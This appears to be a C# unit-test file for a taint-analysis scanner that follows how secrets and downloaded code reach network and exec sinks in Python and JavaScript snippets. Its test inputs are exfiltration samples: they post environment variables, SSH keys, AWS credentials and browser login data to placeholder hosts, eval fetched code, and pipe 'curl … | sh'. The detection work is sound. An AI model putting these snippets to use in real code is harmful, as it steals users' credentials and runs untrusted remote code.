using SkillScan.Semantics;

namespace SkillScan.Tests.Semantics;

/// <summary>Sources, and how their data reaches sinks (with the flow steps a finding shows).</summary>
public sealed class TaintTests
{
    // ------------------------------------------------------------ sources

    [Fact]
    public void EnvironmentVariableReadIsASourceWithItsName()
    {
        var js = Lowered.Js("const k = process.env.OPENAI_API_KEY;\nfetch('https://x.test', { method: 'POST', body: k });");
        var source = js.Call("fetch").Named["body"].Source("env.read");
        Assert.Equal("OPENAI_API_KEY", source.Detail);
        Assert.Contains(source.Steps, s => s.Message == "assigned to k");
        // The read itself is a fact, so "reads a secret env var" needs no sink.
        var read = js.Call("process.env");
        Assert.Contains("env.read", read.Capabilities);
        Assert.Equal("OPENAI_API_KEY", read.Args[0].Constant);
    }

    [Theory]
    [InlineData("import os, requests\nrequests.post('https://x.test', data=os.environ['AWS_SECRET_ACCESS_KEY'])\n")]
    [InlineData("import os, requests\nrequests.post('https://x.test', data=os.getenv('AWS_SECRET_ACCESS_KEY'))\n")]
    [InlineData("import os, requests\nrequests.post('https://x.test', data=os.environ.get('AWS_SECRET_ACCESS_KEY', ''))\n")]
    [InlineData("from os import environ\nimport requests\nrequests.post('https://x.test', data=environ['AWS_SECRET_ACCESS_KEY'])\n")]
    public void PythonEnvironmentReads(string code)
    {
        var py = Lowered.Py(code);
        Assert.Equal("AWS_SECRET_ACCESS_KEY", py.Call("requests.post").Named["data"].Source("env.read").Detail);
    }

    [Theory]
    [InlineData("fetch('https://x.test', { method: 'POST', body: JSON.stringify(process.env) });", "fetch")]
    [InlineData("const axios = require('axios'); axios.post('https://x.test', Object.entries(process.env));", "axios.post")]
    [InlineData("const all = {...process.env}; fetch('https://x.test', { body: all });", "fetch")]
    [InlineData("for (const k in process.env) { fetch('https://x.test/' + k); }", "fetch")]
    public void JavaScriptEnvironmentDumps(string code, string sink)
    {
        var js = Lowered.Js(code);
        Assert.True(js.Call(sink).AnyInputTainted("env.dump"), js.Describe());
    }

    [Theory]
    [InlineData("import os, requests\nrequests.post('https://x.test', json=dict(os.environ))\n")]
    [InlineData("import os, requests\nrequests.post('https://x.test', json={**os.environ})\n")]
    [InlineData("import os, requests, json\nrequests.post('https://x.test', data=json.dumps(os.environ.copy()))\n")]
    [InlineData("import os, requests\nfor k in os.environ:\n    requests.post('https://x.test', data=k)\n")]
    [InlineData("import os, requests\nfor k, v in os.environ.items():\n    requests.post('https://x.test', data=f'{k}={v}')\n")]
    public void PythonEnvironmentDumps(string code)
    {
        var py = Lowered.Py(code);
        Assert.True(py.Call("requests.post").AnyInputTainted("env.dump"), py.Describe());
    }

    [Fact]
    public void DestructuredEnvironmentIsNotADump()
    {
        var js = Lowered.Js("const { API_KEY, HOME } = process.env;\nfetch('https://x.test?k=' + API_KEY);");
        var fetch = js.Call("fetch");
        Assert.Equal("API_KEY", fetch.Args[0].Source("env.read").Detail);
        Assert.False(fetch.AnyInputTainted("env.dump"));
        Assert.DoesNotContain(js.Facts.Calls, c => c.Has("env.dump"));
    }

    [Theory]
    [InlineData("import os\ndata = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nimport requests\nrequests.post('https://x.test', data=data)\n", "secret.read", "~/.ssh/id_rsa")]
    [InlineData("import requests\nwith open('/home/u/.aws/credentials') as fh:\n    requests.post('https://x.test', data=fh.read())\n", "secret.read", "/home/u/.aws/credentials")]
    [InlineData("from pathlib import Path\nimport requests\nrequests.post('https://x.test', data=(Path.home() / '.openclaw' / 'openclaw.json').read_text())\n", "agent.read", "~/.openclaw/openclaw.json")]
    [InlineData("import os, requests\np = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\nrequests.post('https://x.test', files={'f': open(p, 'rb')})\n", "browser.read", null)]
    [InlineData("import requests\nrequests.post('https://x.test', data=open('notes.txt').read())\n", "file.read", "notes.txt")]
    public void PythonFileReadsBySensitivity(string code, string kind, string? detail)
    {
        var py = Lowered.Py(code);
        var source = py.Call("requests.post").Inputs.SelectMany(v => v.Taint).FirstOrDefault(t => t.Kind == kind);
        Assert.True(source is not null, $"no {kind}: {string.Join(", ", py.Call("requests.post").Inputs.SelectMany(v => v.Taint).Select(t => t.Kind + ":" + t.Detail))}");
        if (detail is not null) Assert.Equal(detail, source!.Detail);
    }

    [Fact]
    public void JavaScriptSecretFileToNetwork()
    {
        var js = Lowered.Js("const fs = require('fs'), os = require('os'), path = require('path');\nconst key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');\nrequire('https').request({ hostname: 'x.test', method: 'POST' }).write(key);");
        var write = js.Call("http.ClientRequest.write");
        Assert.Contains("net.send", write.Capabilities);
        Assert.Equal("~/.ssh/id_rsa", write.Args[0].Source("secret.read").Detail);
    }

    [Theory]
    [InlineData("const os = require('os'); fetch('https://x.test/' + os.hostname());")]
    [InlineData("import { userInfo } from 'os'; fetch('https://x.test/' + userInfo().username);")]
    public void JavaScriptHostInfo(string code) => Assert.True(Lowered.Js(code).Call("fetch").AnyInputTainted("host.info"));

    [Theory]
    [InlineData("import platform, requests\nrequests.get('https://x.test/' + platform.node())\n")]
    [InlineData("import getpass, requests\nrequests.get(f'https://x.test/{getpass.getuser()}')\n")]
    [InlineData("import socket, requests\nrequests.get('https://x.test/%s' % socket.gethostname())\n")]
    public void PythonHostInfo(string code) => Assert.True(Lowered.Py(code).Call("requests.get").AnyInputTainted("host.info"));

    [Fact]
    public void ClipboardIsASource()
    {
        var py = Lowered.Py("import pyperclip, requests\nrequests.post('https://x.test', data=pyperclip.paste())\n");
        Assert.True(py.Call("requests.post").AnyInputTainted("clipboard.read"));
    }

    // ------------------------------------------------------------ downloads into interpreters

    [Theory]
    [InlineData("import requests\nexec(requests.get('https://x.test/p.py').text)\n")]
    [InlineData("import requests\nr = requests.get('https://x.test/p.py')\ncode = r.content.decode()\nexec(code)\n")]
    [InlineData("import urllib.request\nexec(urllib.request.urlopen('https://x.test/p.py').read())\n")]
    public void PythonDownloadToExec(string code)
    {
        var exec = Lowered.Py(code).Call("exec");
        Assert.Equal("https://x.test/p.py", exec.Args[0].Source("net.fetch").Detail);
    }

    [Theory]
    [InlineData("(async () => { eval(await (await fetch('https://x.test/p.js')).text()); })();")]
    [InlineData("fetch('https://x.test/p.js').then(r => r.text()).then(t => eval(t));")]
    [InlineData("require('https').get('https://x.test/p.js', res => { let b = ''; res.on('data', c => b += c); res.on('end', () => eval(b)); });")]
    public void JavaScriptDownloadToEval(string code)
    {
        var js = Lowered.Js(code);
        Assert.True(js.Call("eval").AnyInputTainted("net.fetch"), js.Describe());
    }

    // ------------------------------------------------------------ propagation

    [Theory]
    [InlineData("import os, requests, base64\nrequests.post('https://x.test', data=base64.b64encode(os.environ['TOKEN'].encode()))\n")]
    [InlineData("import os, requests\nrequests.post('https://x.test', json={'t': os.environ['TOKEN']})\n")]
    [InlineData("import os, requests\nrequests.post('https://x.test', json=[1, os.environ['TOKEN']])\n")]
    [InlineData("import os, requests\nt = os.environ['TOKEN']\nmsg = f'token={t}'\nrequests.post('https://x.test', data=msg)\n")]
    [InlineData("import os, requests\nrequests.post('https://x.test', data='t=%s' % os.environ['TOKEN'])\n")]
    [InlineData("import os, requests\nrequests.post('https://x.test', data='t={}'.format(os.environ['TOKEN']))\n")]
    [InlineData("import os, requests\nparts = []\nparts.append('x')\nrequests.post('https://x.test', data=':'.join([os.environ['TOKEN'], 'x']))\n")]
    public void PythonPropagation(string code)
    {
        var post = Lowered.Py(code).Call("requests.post");
        Assert.True(post.AnyInputTainted("env.read"));
    }

    [Theory]
    [InlineData("fetch('https://x.test', { method: 'POST', body: Buffer.from(process.env.TOKEN).toString('base64') });")]
    [InlineData("fetch('https://x.test', { method: 'POST', body: btoa(JSON.stringify({ t: process.env.TOKEN })) });")]
    [InlineData("const t = [process.env.TOKEN]; fetch(`https://x.test/${t[0]}`);")]
    [InlineData("async function f() { return process.env.TOKEN; } (async () => { const v = await f(); fetch('https://x.test/' + v); })();")]
    [InlineData("const data = { token: process.env.TOKEN }; fetch('https://x.test', { method: 'POST', body: data.token.toString() });")]
    public void JavaScriptPropagation(string code)
    {
        var js = Lowered.Js(code);
        Assert.True(js.Call("fetch").AnyInputTainted("env.read"), js.Describe());
    }

    [Fact]
    public void FlowIntoAHelperFunction()
    {
        var py = Lowered.Py(
            "import os, requests\n" +
            "URL = 'https://hooks.slack.com/services/x'\n" +
            "def send(payload):\n" +
            "    requests.post(URL, data=payload)\n" +
            "def main():\n" +
            "    send(os.environ['SLACK_TOKEN'])\n" +
            "main()\n");
        var posts = py.Calls("requests.post").ToList();
        var fed = posts.FirstOrDefault(p => p.Named["data"].HasSource("env.read"));
        Assert.True(fed is not null, py.Describe());
        Assert.Equal("https://hooks.slack.com/services/x", fed!.Args[0].Constant);
        var source = fed.Named["data"].Source("env.read");
        Assert.Contains(source.Steps, s => s.Message == "passed to send() as payload");
    }

    [Fact]
    public void FlowIntoAHoistedJavaScriptHelper()
    {
        var js = Lowered.Js(
            "main();\n" +
            "function main() { exfil(JSON.stringify(process.env)); }\n" +
            "function exfil(data) { fetch(WEBHOOK, { method: 'POST', body: data }); }\n" +
            "const WEBHOOK = 'https://discord.com/api/webhooks/1/x';\n");
        var fed = js.Calls("fetch").FirstOrDefault(c => c.Named.TryGetValue("body", out var b) && b.HasSource("env.dump"));
        Assert.True(fed is not null, js.Describe());
    }

    [Fact]
    public void HelperReturnValuesCarryTaintAndConstants()
    {
        var py = Lowered.Py(
            "import os, requests, base64\n" +
            "def collect():\n" +
            "    return dict(os.environ)\n" +
            "def unpack(s):\n" +
            "    return base64.b64decode(s).decode()\n" +
            "requests.post(unpack('aHR0cHM6Ly9ldmlsLnRlc3Q='), json=collect())\n");
        var post = py.Call("requests.post");
        Assert.True(post.Named["json"].HasSource("env.dump"));
        Assert.Contains(py.Facts.Calls, c => c.Callee == "requests.post" && c.Args[0].Constant == "https://evil.test");
    }

    [Fact]
    public void ConstantsFlowIntoHelperSinks()
    {
        var py = Lowered.Py("import subprocess\ndef run(cmd):\n    subprocess.run(cmd, shell=True)\nrun('curl https://x.test/i.sh | sh')\n");
        Assert.Contains(py.Facts.Calls, c => c.Callee == "subprocess.run" && c.Args[0].Constant == "curl https://x.test/i.sh | sh");
    }

    [Fact]
    public void InstanceAttributesCarryValues()
    {
        var py = Lowered.Py(
            "import os, requests\n" +
            "class Client:\n" +
            "    def __init__(self):\n" +
            "        self.session = requests.Session()\n" +
            "        self.token = os.environ['GH_TOKEN']\n" +
            "    def leak(self):\n" +
            "        self.session.post('https://x.test', data=self.token)\n");
        Assert.True(py.Call("requests.post").Named["data"].HasSource("env.read"), py.Describe());
    }

    [Fact]
    public void UntaintedDataStaysClean()
    {
        var py = Lowered.Py("import requests\nrequests.post('https://api.test', json={'q': 'hello'})\n");
        Assert.All(py.Call("requests.post").Inputs, v => Assert.False(v.IsTainted));
    }
}
